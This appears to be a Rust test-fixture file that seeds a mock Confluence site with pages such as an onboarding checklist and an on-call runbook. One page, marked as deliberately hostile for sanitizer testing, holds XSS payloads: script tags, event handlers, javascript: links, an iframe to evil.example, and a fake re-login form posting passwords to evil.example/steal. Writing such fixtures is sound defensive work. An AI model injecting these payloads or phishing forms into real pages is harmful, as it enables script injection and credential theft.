//! Confluence seed: three spaces on acme with a handful of pages each, bodies in storage
//! format (XHTML with `ac:` macros). Page 163845 is hostile on purpose.

use super::seed::ids::{ACME_SITE, SPACE_KEYS};
use super::seed::{ALICE_ID as ALICE, BOB_ID as BOB};

/// A Confluence space.
pub(crate) struct Space {
    pub(crate) id: &'static str,
    pub(crate) key: &'static str,
    pub(crate) name: &'static str,
    pub(crate) site: &'static str,
    pub(crate) homepage_id: &'static str,
}

/// A Confluence page (current version only).
pub(crate) struct Page {
    pub(crate) id: &'static str,
    pub(crate) space_id: &'static str,
    pub(crate) title: &'static str,
    pub(crate) parent_id: Option<&'static str>,
    pub(crate) version: u32,
    pub(crate) created_at: &'static str,
    pub(crate) author: &'static str,
    pub(crate) body: &'static str,
}

/// Spaces, in the order the API lists them.
pub(crate) static SPACES: [Space; 3] = [
    Space { id: "98305", key: SPACE_KEYS[0], name: "Engineering", site: ACME_SITE, homepage_id: "163841" },
    Space { id: "98306", key: SPACE_KEYS[1], name: "Operations", site: ACME_SITE, homepage_id: "163861" },
    Space { id: "98307", key: SPACE_KEYS[2], name: "People & Culture", site: ACME_SITE, homepage_id: "163881" },
];

const fn page(
    id: &'static str,
    space_id: &'static str,
    title: &'static str,
    parent_id: Option<&'static str>,
    version: u32,
    created_at: &'static str,
    body: &'static str,
) -> Page {
    let author = if version.is_multiple_of(2) { BOB } else { ALICE };
    Page { id, space_id, title, parent_id, version, created_at, author, body }
}

/// The page whose body tries every trick a sanitizer must undo.
pub(crate) use super::seed::ids::HOSTILE_PAGE;

/// Every page, homepages first within each space.
pub(crate) static PAGES: [Page; 13] = [
    page("163841", "98305", "Engineering Home", None, 7, "2026-09-01T08:00:00.000Z", ENG_HOME),
    page("163842", "98305", "Architecture overview", Some("163841"), 12, "2026-09-03T13:20:11.482Z", ARCHITECTURE),
    page(
        "163843",
        "98305",
        "Onboarding checklist for new engineers",
        Some("163841"),
        4,
        "2026-09-10T09:45:00.000Z",
        ONBOARDING,
    ),
    page(
        "163844",
        "98305",
        "Postmortem: 2026-10-14 login outage",
        Some("163841"),
        3,
        "2026-10-15T16:02:37.915Z",
        POSTMORTEM,
    ),
    page(
        HOSTILE_PAGE,
        "98305",
        "Security test page <script>alert('title')</script>",
        Some("163841"),
        1,
        "2026-10-20T11:11:11.111Z",
        HOSTILE,
    ),
    page("163846", "98305", "Release process", Some("163842"), 9, "2026-09-21T10:30:00.000Z", RELEASE),
    page("163861", "98306", "Operations Home", None, 2, "2026-09-02T08:00:00.000Z", OPS_HOME),
    page("163862", "98306", "On-call runbook", Some("163861"), 15, "2026-09-05T07:15:42.000Z", RUNBOOK),
    page("163863", "98306", "Backup and restore", Some("163861"), 6, "2026-09-12T12:00:00.000Z", BACKUP),
    page("163864", "98306", "Vendor contacts", Some("163861"), 2, "2026-10-01T09:00:00.000Z", VENDORS),
    page("163881", "98307", "People & Culture Home", None, 1, "2026-09-02T09:00:00.000Z", HR_HOME),
    page("163882", "98307", "Holiday calendar 2027", Some("163881"), 2, "2026-11-02T10:00:00.000Z", HOLIDAYS),
    page("163883", "98307", "Expense policy", Some("163881"), 5, "2026-09-15T14:25:00.000Z", EXPENSES),
];

const ENG_HOME: &str = r#"<h1>Welcome to Engineering</h1><p>This space holds our <strong>design docs</strong>, runbooks and postmortems.</p><ac:structured-macro ac:name="info" ac:schema-version="1"><ac:rich-text-body><p>New here? Start with the <ac:link><ri:page ri:content-title="Onboarding checklist for new engineers" /></ac:link>.</p></ac:rich-text-body></ac:structured-macro><h2>Teams</h2><ul><li><p>Platform</p></li><li><p>Payments</p></li><li><p>Mobile</p></li></ul>"#;

const ARCHITECTURE: &str = r#"<h2>Overview</h2><p>The platform is a set of services behind one gateway. Requests flow <em>gateway → service → Postgres</em>.</p><table><tbody><tr><th><p>Service</p></th><th><p>Owner</p></th></tr><tr><td><p>billing</p></td><td><p><ac:link><ri:user ri:account-id="712020:6f1c2a7e-3b4d-4c5e-8f90-1a2b3c4d5e6f" /></ac:link></p></td></tr><tr><td><p>search</p></td><td><p>Platform</p></td></tr></tbody></table><ac:structured-macro ac:name="code" ac:schema-version="1"><ac:parameter ac:name="language">yaml</ac:parameter><ac:plain-text-body><![CDATA[services:
  billing: { replicas: 3 }
  search: { replicas: 2 }]]></ac:plain-text-body></ac:structured-macro>"#;

const ONBOARDING: &str = r#"<p>Welcome aboard! Work through this list in your first week.</p><ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>incomplete</ac:task-status><ac:task-body>Get laptop and accounts</ac:task-body></ac:task><ac:task><ac:task-id>2</ac:task-id><ac:task-status>complete</ac:task-status><ac:task-body>Read the architecture overview</ac:task-body></ac:task></ac:task-list><ol><li><p>Pair with your buddy</p></li><li><p>Ship a small change</p></li></ol>"#;

const POSTMORTEM: &str = r#"<h2>Summary</h2><p>On 14 October 2026 sign-in failed for <strong>42 minutes</strong> after a certificate rotation.</p><h2>Timeline (UTC)</h2><ul><li><p>09:12 alerts fire</p></li><li><p>09:20 incident declared</p></li><li><p>09:54 rollback complete</p></li></ul><h2>Action items</h2><p>Automate certificate expiry checks. Owner: <ac:link><ri:user ri:account-id="712020:0b0b2c3d-4e5f-4a6b-9c7d-8e9f0a1b2c3d" /></ac:link></p>"#;

const HOSTILE: &str = r#"<p>This page exists to test sanitising. Nothing below may run.</p><script>alert('storage script')</script><p onclick="alert('onclick')" style="background:url(javascript:alert(1))">Click this paragraph.</p><p><a href="javascript:alert('link')">A javascript: link</a> and <a href="https://example.com/" onmouseover="alert('hover')">a normal link with a handler</a>.</p><style>body { display: none !important; }</style><iframe src="https://evil.example/frame" width="800" height="600"></iframe><img src="x" onerror="alert('img')" /><svg><script>alert('svg')</script></svg><form action="https://evil.example/steal"><input name="password" type="password" /><button>Sign in again</button></form><p>Text with entities: &lt;not a tag&gt; &amp; friends.</p>"#;

const RELEASE: &str = r#"<p>Releases go out every other Tuesday.</p><ol><li><p>Cut the branch on Monday</p></li><li><p>Run <code>make release</code></p></li><li><p>Announce in <em>#releases</em></p></li></ol><ac:structured-macro ac:name="warning" ac:schema-version="1"><ac:rich-text-body><p>Never release on a Friday.</p></ac:rich-text-body></ac:structured-macro>"#;

const OPS_HOME: &str = r#"<h1>Operations</h1><p>Everything about keeping production healthy. Paging policy and escalation contacts live here.</p>"#;

const RUNBOOK: &str = r#"<h2>When you get paged</h2><ol><li><p>Acknowledge within 5 minutes.</p></li><li><p>Open the dashboard and check error rates.</p></li><li><p>If unsure, escalate &mdash; nobody minds.</p></li></ol><h2>Useful commands</h2><ac:structured-macro ac:name="code" ac:schema-version="1"><ac:parameter ac:name="language">bash</ac:parameter><ac:plain-text-body><![CDATA[kubectl -n prod get pods | grep -v Running
kubectl -n prod logs deploy/gateway --since=10m]]></ac:plain-text-body></ac:structured-macro>"#;

const BACKUP: &str = r#"<p>Backups run nightly at 02:00 UTC and are kept for 35 days.</p><h3>Restore</h3><p>Follow the steps in order; a restore takes about <strong>20 minutes</strong>.</p><ul><li><p>Stop writers</p></li><li><p>Restore the snapshot</p></li><li><p>Verify row counts</p></li></ul>"#;

const VENDORS: &str = r#"<table><tbody><tr><th><p>Vendor</p></th><th><p>Contact</p></th></tr><tr><td><p>Cloud provider</p></td><td><p><a href="mailto:support@cloud.example">support@cloud.example</a></p></td></tr><tr><td><p>CDN</p></td><td><p><a href="https://cdn.example/support">cdn.example/support</a></p></td></tr></tbody></table>"#;

const HR_HOME: &str = r#"<h1>People &amp; Culture</h1><p>Policies, benefits and the holiday calendar.</p>"#;

const HOLIDAYS: &str = r#"<p>Public holidays depend on your location. Company-wide days off in 2027:</p><ul><li><p>1 January</p></li><li><p>24&ndash;31 December</p></li></ul>"#;

const EXPENSES: &str = r#"<p>Keep receipts. Submit expenses within <strong>30 days</strong>.</p><p>Travel over &euro;500 needs approval first.</p>"#;
